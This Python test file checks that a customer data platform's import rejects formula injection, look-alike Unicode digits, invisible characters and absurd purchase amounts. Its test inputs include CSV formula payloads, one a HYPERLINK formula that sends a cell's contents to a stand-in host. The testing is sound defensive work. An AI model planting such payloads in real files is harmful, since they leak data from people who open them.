"""Values that pass a syntax check but would still do harm: formulas in identifiers, look-alike
digits, invisible characters, absurd amounts, and the empty CDP a failed import used to leave.

Each goes through the real `cdp-agents import` (one line on stderr naming the line, exit 1, nothing
written) or through the ingestion API that live sources use.
"""

from __future__ import annotations

import json
import re
import sys
import unicodedata
from pathlib import Path

import pytest
from typer.testing import CliRunner

from cdp import open_cdp
from cdp.csvsafe import neutralise
from cdp.identity import normalize_identifier
from cdp.ingest import add_identities, ingest_events
from cdp.input_checks import control_char, visible
from cli.main import app

runner = CliRunner()
PROFILES = (
    "profile_id,first_name,last_name,country,signup_at\nc1,Ann,Lee,DE,2025-01-01\nc2,Bob,Ray,US,2025-02-01\n"
)


def _import(path: Path, db: Path, *extra: str):
    return runner.invoke(app, ["import", str(path), "--db", str(db), *extra])


@pytest.fixture
def cdp(tmp_path) -> Path:
    db = tmp_path / "cdp.db"
    seed = tmp_path / "seed-profiles.csv"
    seed.write_text(PROFILES, encoding="utf-8")
    assert _import(seed, db).exit_code == 0
    return db


def _count(db_path: Path, sql: str) -> int:
    db = open_cdp(db_path)
    try:
        return db.execute(sql).fetchone()[0]
    finally:
        db.conn.close()


def _refused(result, words: str, line: int = 2) -> None:
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, lines
    assert re.match(rf"error: line {line}: ", lines[0]), lines[0]
    assert words in lines[0], lines[0]


# --- formulas in identifiers of every kind but a phone's leading "+" -----------------------------


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("crm_id", '=HYPERLINK("http://x.example/?"&A1,"x")'),
        ("cookie", "@SUM(1+1)"),
        ("device_id", "-2+3"),
        ("email", "=cmd@example.com"),
        ("crm_id", "+1+2"),
    ],
)
def test_a_formula_in_an_identifier_is_refused(cdp, tmp_path, kind, value):
    path = tmp_path / "identities.csv"
    path.write_text(
        f'profile_id,kind,value\nc1,{kind},"{value.replace(chr(34), 2 * chr(34))}"\n', encoding="utf-8"
    )
    _refused(_import(path, cdp), "formula")
    assert _count(cdp, "SELECT count(*) FROM identities") == 0


def test_a_phones_plus_is_still_accepted(cdp, tmp_path):
    path = tmp_path / "identities.csv"
    path.write_text("profile_id,kind,value\nc1,phone,+1 555 000 0005\n", encoding="utf-8")
    assert _import(path, cdp).exit_code == 0
    assert _count(cdp, "SELECT count(*) FROM identities WHERE value = '+15550000005'") == 1


@pytest.mark.parametrize("lead", [" ", "\u00a0", "\t", "\n", "\u3000 "])
def test_csv_neutralises_a_formula_behind_leading_blanks(lead):
    assert neutralise(lead + "=HYPERLINK(1)") == "'" + lead + "=HYPERLINK(1)"
    if not lead.startswith("\t"):  # a tab is a formula prefix itself
        assert neutralise(lead + "Ann") == lead + "Ann"


def test_ingestion_refuses_a_formula_behind_leading_blanks():
    from cdp.input_checks import check_text

    for text in (" =1+1", "\u00a0@SUM(1)", "\n-2+3"):
        with pytest.raises(ValueError, match="formula"):
            check_text(text, multiline=True)


# --- Unicode digits: the same number in any script is one identifier -----------------------------


@pytest.mark.parametrize(
    "phone",
    ["+\uff11\uff15\uff15\uff15\uff10\uff10\uff10\uff10\uff10\uff10\uff15", "\uff0b15550000005",
     "+\u0661\u0665\u0665\u0665\u0660\u0660\u0660\u0660\u0660\u0660\u0665", "+1\u00a0555\u00a0000\u00a00005"],
)  # fmt: skip
def test_unicode_digits_in_a_phone_merge_with_the_ascii_number(cdp_db, phone):
    cdp_db.conn.executemany(
        "INSERT INTO profiles (profile_id, signup_at, created_at) VALUES (?, ?, ?)",
        [
            ("p1", "2025-01-01T00:00:00Z", "2025-01-01T00:00:00Z"),
            ("p2", "2025-02-01T00:00:00Z", "2025-02-01T00:00:00Z"),
        ],
    )
    cdp_db.conn.commit()
    res = add_identities(
        cdp_db,
        [
            {"profile_id": "p1", "kind": "phone", "value": "+15550000005"},
            {"profile_id": "p2", "kind": "phone", "value": phone},
        ],
    )
    assert res.rejected == 0, res.errors
    assert res.resolution is not None and res.resolution.merged == 1
    assert cdp_db.execute("SELECT count(*) FROM profiles").fetchone()[0] == 1
    assert {v for (v,) in cdp_db.execute("SELECT value FROM identities")} == {"+15550000005"}


def test_every_identifier_kind_stores_ascii_digits():
    assert normalize_identifier("crm_id", "CRM-\uff11\uff12\uff13") == "CRM-123"
    assert normalize_identifier("device_id", "d\u0663") == "d3"
    assert normalize_identifier("email", "ann\uff20example.com") == "ann@example.com"
    with pytest.raises(ValueError, match="not a phone number"):
        normalize_identifier("phone", "+1555\u00bd00000")  # a fraction is no digit


# --- invisible format characters -----------------------------------------------------------------

INVISIBLE = {
    "LRM": "\u200e",
    "RLM": "\u200f",
    "ALM": "\u061c",
    "ZWSP": "\u200b",
    "word joiner": "\u2060",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "tag": "\U000e0001",
    "BOM mid-text": "\ufeff",
    "soft hyphen": "\u00ad",
}


@pytest.mark.parametrize("char", INVISIBLE.values(), ids=INVISIBLE.keys())
def test_an_invisible_character_in_a_name_is_refused(cdp, tmp_path, char):
    path = tmp_path / "profiles.csv"
    path.write_text(f"profile_id,first_name\nc1,Ad{char}min\n", encoding="utf-8")
    _refused(_import(path, cdp), f"U+{ord(char):04X}")
    assert _count(cdp, "SELECT count(*) FROM profiles WHERE first_name = 'Ann'") == 1


@pytest.mark.parametrize("char", INVISIBLE.values(), ids=INVISIBLE.keys())
def test_visible_shows_an_invisible_character(char):
    shown = visible(f"Ad{char}min")
    assert char not in shown and f"\\u{ord(char):04x}" in shown


def test_every_format_character_but_the_joiners_is_refused():
    """The refused set is checked against this Python's Unicode database, code point by code point."""
    missed = [
        f"U+{c:04X}"
        for c in range(sys.maxunicode + 1)
        if (unicodedata.category(chr(c)) in ("Cf", "Zl", "Zp") and c not in (0x200C, 0x200D))
        and control_char(chr(c), multiline=True) is None
    ]
    assert missed == []
    assert control_char("Zo\u200de \u200c \U0001f469\u200d\U0001f4bb") is None  # joiners: emoji, scripts


# --- amounts -------------------------------------------------------------------------------------


@pytest.mark.parametrize("amount", [1e300, 1e7, 1_000_000.01])
def test_an_absurd_purchase_amount_is_refused(cdp, tmp_path, amount):
    path = tmp_path / "events.jsonl"
    good = {
        "profile_id": "c1",
        "type": "purchase",
        "ts": "2026-11-01T00:00:00Z",
        "properties": {"amount": 10, "category": "shoes"},
    }
    bad = {**good, "message_id": "m2", "properties": {"amount": amount, "category": "shoes"}}
    path.write_text(json.dumps(good) + "\n" + json.dumps(bad) + "\n", encoding="utf-8")
    _refused(_import(path, cdp), "at most 1,000,000")
    assert _count(cdp, "SELECT count(*) FROM events") == 0
    assert _count(cdp, "SELECT max(lifetime_value) FROM profiles") == 0


def test_ingestion_refuses_an_absurd_amount_and_keeps_lifetime_values_sane(cdp_db):
    cdp_db.conn.execute(
        "INSERT INTO profiles (profile_id, signup_at, created_at) VALUES ('p', '2025-01-01T00:00:00Z', '2025-01-01T00:00:00Z')"
    )
    cdp_db.conn.commit()
    res = ingest_events(
        cdp_db,
        [
            {"profile_id": "p", "type": "purchase", "properties": {"amount": 1e300, "category": "x"}},
            {"profile_id": "p", "type": "purchase", "properties": {"amount": 1_000_000, "category": "x"}},
        ],
    )
    assert (res.inserted, res.rejected) == (1, 1)
    assert cdp_db.execute("SELECT lifetime_value FROM profiles").fetchone()[0] == 1_000_000


# --- a failed import leaves no CDP where there was none ------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("consents.csv", "profile_id,channel,status\nnobody,email,granted\n"),  # fails against the CDP
        ("profiles.csv", "profile_id,first_name\nc1,=HYPERLINK(1)\n"),  # fails validation
    ],
)
def test_a_failed_import_into_a_new_path_leaves_no_file(tmp_path, name, content):
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    target = tmp_path / "new.db"
    result = _import(path, target)
    assert result.exit_code == 1, result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == [name]


def test_a_failed_import_into_an_existing_cdp_keeps_it(cdp, tmp_path):
    path = tmp_path / "consents.csv"
    path.write_text("profile_id,channel,status\nnobody,email,granted\n", encoding="utf-8")
    assert _import(path, cdp).exit_code == 1
    assert _count(cdp, "SELECT count(*) FROM profiles") == 2
